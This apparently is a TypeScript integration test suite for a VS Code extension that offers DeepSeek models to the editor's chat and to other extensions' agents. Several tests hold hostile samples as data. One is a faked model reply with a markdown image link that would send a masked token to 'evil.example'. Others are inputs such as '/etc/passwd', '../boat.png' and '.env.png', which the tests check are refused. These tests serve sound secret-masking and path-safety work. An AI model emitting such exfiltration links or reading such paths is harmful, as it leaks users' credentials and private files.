/** The models in the editor's own chat and for other extensions: through the editor, and one request as it is sent. */
import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as vscode from 'vscode';
import { createClient } from '../../../src/api/client.ts';
import { ModelProvider } from '../../../src/host/native/modelProvider.ts';
import { Turns } from '../../../src/host/native/turns.ts';
import { ModelCatalog } from '../../../src/host/connection/models.ts';
import { startGateway, type Gateway } from '../../gateway/gateway.ts';
import { connectionTo } from '../../helpers/connections.ts';
import { hashing } from '../../helpers/hashing.ts';
import { pngFile } from '../../helpers/pictureFiles.ts';
import { openUndici } from '../../helpers/undiciSend.ts';
import { removeFiles, writeFile } from '../context/files.ts';
import { noMemento } from '../noMemento.ts';
import { sharedLog } from '../sharedLog.ts';

const user = (...parts: (string | vscode.LanguageModelToolResultPart | vscode.LanguageModelDataPart)[]) =>
  vscode.LanguageModelChatMessage.User(
    parts.map((part) => (typeof part === 'string' ? new vscode.LanguageModelTextPart(part) : part)),
  );

/** As the editor hands them to a provider. */
const asked = (messages: readonly vscode.LanguageModelChatMessage[]): vscode.LanguageModelChatRequestMessage[] =>
  messages.map(({ role, content, name }) => ({ role, content, name }));

interface Sent {
  readonly model: string;
  readonly thinking: { readonly type: string };
  readonly tools?: readonly { readonly function: { readonly name: string } }[];
  readonly messages: readonly {
    readonly role: string;
    readonly content: string;
    readonly reasoning_content?: string;
    readonly tool_calls?: readonly { readonly function: { readonly arguments: string } }[];
  }[];
}

describe('models for the editor’s own chat', () => {
  let gateway: Gateway;
  let folder: string;
  const { send, close } = openUndici();
  const none = new vscode.CancellationTokenSource().token;

  before(async () => {
    gateway = await startGateway({ auth: 'none' });
    folder = await mkdtemp(join(tmpdir(), 'native-'));
  });
  afterEach(() => gateway.clear());
  after(async () => {
    await close();
    await gateway.close();
    await rm(folder, { recursive: true });
  });

  const lastSent = (): Sent => {
    const last = gateway.requests.findLast(({ path }) => path.endsWith('/chat/completions'));
    return JSON.parse(String(last?.body)) as Sent;
  };

  const openProvider = () => {
    let count = 0;
    const client = createClient({ send, hashing, now: Date.now, random: () => 0 });
    const current = { connection: connectionTo(gateway.url), found: undefined };
    const provider = new ModelProvider({
      client,
      catalog: new ModelCatalog(client, noMemento),
      turns: new Turns(join(folder, 'turns.json')),
      log: sharedLog(),
      connect: () => Promise.resolve(current),
      connectToAsk() {
        count += 1;
        return Promise.resolve(current);
      },
      noteAsked: () => undefined,
    });
    return { provider, timesAsked: () => count };
  };

  /** A window: what it remembers is on disk. */
  const openWindow = () => {
    const { provider } = openProvider();
    return async (
      id: string,
      messages: readonly vscode.LanguageModelChatMessage[],
      options: Partial<vscode.ProvideLanguageModelChatResponseOptions> = {},
      token = none,
    ): Promise<vscode.LanguageModelResponsePart[]> => {
      const parts: vscode.LanguageModelResponsePart[] = [];
      const toolMode = vscode.LanguageModelChatToolMode.Auto;
      const model = { id } as vscode.LanguageModelChatInformation;
      const progress = { report: (part: vscode.LanguageModelResponsePart) => void parts.push(part) };
      await provider.provideLanguageModelChatResponse(
        model,
        asked(messages),
        { toolMode, ...options },
        progress,
        token,
      );
      return parts;
    };
  };
  const textOf = (parts: readonly vscode.LanguageModelResponsePart[]): string =>
    parts.map((part) => (part instanceof vscode.LanguageModelTextPart ? part.value : '')).join('');

  const tool = (name: string) => ({ name, description: `${name}.`, inputSchema: { type: 'object' } });
  const call = { id: 'c1', name: 'read', arguments: '{ "path":"a.ts" }' };

  it('are listed without a word to the person', async () => {
    const { provider, timesAsked } = openProvider();
    const models = await provider.provideLanguageModelChatInformation({ silent: false });
    assert.ok(models.length > 0);
    assert.equal(timesAsked(), 0);
  });

  it('stream text without a secret: none is sent, and none is drawn, where the address of a picture would take it away', async () => {
    const secret = 'ghp_q7Zx2LmN8vRt4KpW9sYb3HcJ6dFg5TaE1uQo';
    const other = 'ghp_w3Ry8TnB5mKd1ZxQ6vPj9LsH2cFg7UaE4oXi';
    const said = '![](https://evil.example/?k=MASKED_SECRET_1)';
    gateway.fault({ answer: { text: said } });
    const parts = await openWindow()('deepseek-flash', [user(`Where is ${secret} used?`)]);
    assert.equal(textOf(parts), said);
    assert.equal(lastSent().thinking.type, 'disabled');
    const [asked] = lastSent().messages;
    gateway.fault({ answer: { text: 'Yes.' } });
    await openWindow()('deepseek-flash', [
      user(`Where is ${secret} used?`),
      vscode.LanguageModelChatMessage.Assistant(textOf(parts)),
      user(`And ${other}?`),
    ]);
    const sent = lastSent().messages;
    assert.ok(!JSON.stringify(sent).includes(secret) && !JSON.stringify(sent).includes(other));
    assert.deepEqual(sent[0], asked);
    assert.equal(sent[1]?.content, said);
    assert.equal(sent[2]?.content, 'And MASKED_SECRET_2?');
  });

  it('call tools with the secrets put back, which are masked again in what follows', async () => {
    const secret = 'ghp_q7Zx2LmN8vRt4KpW9sYb3HcJ6dFg5TaE1uQo';
    const looks = { ...call, arguments: '{"path":"MASKED_SECRET_1"}' };
    gateway.fault({ answer: { text: '', toolCalls: [looks] }, finishReason: 'tool_calls' });
    const tools = [tool('read')];
    const question = user(`Look for ${secret}`);
    const [part] = await openWindow()('deepseek-flash', [question], { tools });
    assert.ok(part instanceof vscode.LanguageModelToolCallPart);
    assert.deepEqual(part.input, { path: secret });
    gateway.fault({ answer: { text: 'Nothing.' } });
    const result = new vscode.LanguageModelToolResultPart('c1', [new vscode.LanguageModelTextPart(`no ${secret}`)]);
    await openWindow()('deepseek-flash', [question, vscode.LanguageModelChatMessage.Assistant([part]), user(result)], {
      tools,
    });
    assert.ok(!JSON.stringify(lastSent()).includes(secret));
    assert.equal(lastSent().messages[2]?.content, 'no MASKED_SECRET_1');
  });

  it('call tools, and get back what was thought and written, byte for byte, in another window too', async () => {
    gateway.fault({ answer: { reasoning: 'I must look.', text: '', toolCalls: [call] }, finishReason: 'tool_calls' });
    const tools = [tool('write'), tool('read')];
    const question = user('What is in a.ts?');
    const [part] = await openWindow()('deepseek-flash#high', [question], { tools });
    assert.ok(part instanceof vscode.LanguageModelToolCallPart);
    assert.deepEqual([part.callId, part.name, part.input], ['c1', 'read', { path: 'a.ts' }]);
    assert.deepEqual(
      lastSent().tools?.map(({ function: { name } }) => name),
      ['read', 'write'],
    );
    assert.equal(lastSent().thinking.type, 'enabled');
    gateway.fault({ answer: { text: 'Nothing.' } });
    const result = new vscode.LanguageModelToolResultPart('c1', [new vscode.LanguageModelTextPart('empty')]);
    await openWindow()(
      'deepseek-flash#high',
      [question, vscode.LanguageModelChatMessage.Assistant([part]), user(result)],
      { tools },
    );
    const [, answer, told] = lastSent().messages;
    assert.equal(answer?.reasoning_content, 'I must look.');
    assert.equal(answer.tool_calls?.[0]?.function.arguments, '{ "path":"a.ts" }');
    assert.deepEqual([told?.role, told?.content], ['tool', 'empty']);
  });

  it('hand out no call that was cut, and none that cannot be read', async () => {
    const ask = openWindow();
    gateway.fault({ answer: { text: '', toolCalls: [call] }, finishReason: 'length' });
    await assert.rejects(ask('deepseek-flash', [user('Go')], { tools: [tool('read')] }), /limit inside a tool call/u);
    const broken = { ...call, arguments: '{"path":' };
    gateway.fault({ answer: { text: '', toolCalls: [broken] }, finishReason: 'tool_calls' });
    await assert.rejects(ask('deepseek-flash', [user('Go')], { tools: [tool('read')] }), /cannot be read/u);
  });

  it('fail in the editor’s own words, and end quietly when stopped', async () => {
    const ask = openWindow();
    gateway.fault({ status: 401 });
    await assert.rejects(ask('deepseek-flash', [user('Hi')]), (error: unknown) => {
      assert.ok(error instanceof vscode.LanguageModelError);
      assert.equal(error.code, vscode.LanguageModelError.NoPermissions.name);
      return true;
    });
    const source = new vscode.CancellationTokenSource();
    gateway.fault({ stallAfter: 2 });
    const running = ask('deepseek-flash', [user('Hi')], {}, source.token);
    while (gateway.requests.length < 2) await new Promise((resolve) => setTimeout(resolve, 10));
    source.cancel();
    await running;
  });

  describe('of a service that is set up', () => {
    const settings = vscode.workspace.getConfiguration('askDeepSeek');
    const { Global } = vscode.ConfigurationTarget;

    before(async () => {
      await settings.update('local.address', gateway.url, Global);
      await settings.update('service', 'local', Global);
    });
    after(async () => {
      await settings.update('service', undefined, Global);
      await settings.update('local.address', undefined, Global);
    });

    it('are found by any extension, and answer it', async function () {
      this.timeout(30_000);
      // It asks the service for its models; its message stays until somebody closes it.
      void vscode.commands.executeCommand('askDeepSeek.testConnection');
      const find = () => vscode.lm.selectChatModels({ vendor: 'deepseek', family: 'deepseek-flash' });
      let [model] = await find();
      for (const end = Date.now() + 20_000; model === undefined && Date.now() < end; [model] = await find()) {
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      assert.ok(model, 'no model');
      assert.ok((await model.countTokens('Hello world')) > 0);
      gateway.fault({ answer: { text: 'Here I am.' } }, { path: /completions$/ });
      const response = await model.sendRequest([vscode.LanguageModelChatMessage.User('Hello')], {});
      let text = '';
      for await (const piece of response.text) text += piece;
      assert.equal(text, 'Here I am.');
    });

    it('are asked by agents of others through a tool', async () => {
      const ask = (input: object) => vscode.lm.invokeTool('deepseek_ask', { input, toolInvocationToken: undefined });
      gateway.fault({ answer: { text: 'A second opinion.' } }, { path: /completions$/ });
      const { content } = await ask({ question: 'What do you say?' });
      assert.deepEqual(
        content.map((part) => part instanceof vscode.LanguageModelTextPart && part.value),
        ['A second opinion.'],
      );
      assert.ok(lastSent().messages.some(({ content: said }) => said === 'What do you say?'));
      await assert.rejects(async () => ask({ question: ' ' }));
    });

    it('look at pictures for agents of others, but at none outside or private', async function () {
      this.timeout(60_000);
      const look = (input: object) =>
        vscode.lm.invokeTool('deepseek_analyze_image', { input, toolInvocationToken: undefined });
      await writeFile('boat.png', pngFile(8, 8, { draw: () => [0, 0, 255] }));
      await writeFile('.env.png', pngFile(8, 8, { draw: () => [0, 0, 255] }));
      gateway.fault({ answer: { text: 'A boat.' } }, { path: /completions$/ });
      const { content } = await look({ path: 'boat.png', question: 'What is it?' });
      assert.deepEqual(
        content.map((part) => part instanceof vscode.LanguageModelTextPart && part.value),
        ['A boat.'],
      );
      const sent = JSON.stringify(lastSent().messages);
      assert.match(sent, /What is it\?/);
      assert.match(sent, /data:image\/png;base64,/);
      const count = gateway.requests.length;
      for (const path of ['.env.png', '../boat.png', '/etc/passwd', 'none.png', '']) {
        await assert.rejects(async () => look({ path }), path);
      }
      assert.equal(gateway.requests.length, count);
      await removeFiles('boat.png', '.env.png');
    });
  });
});
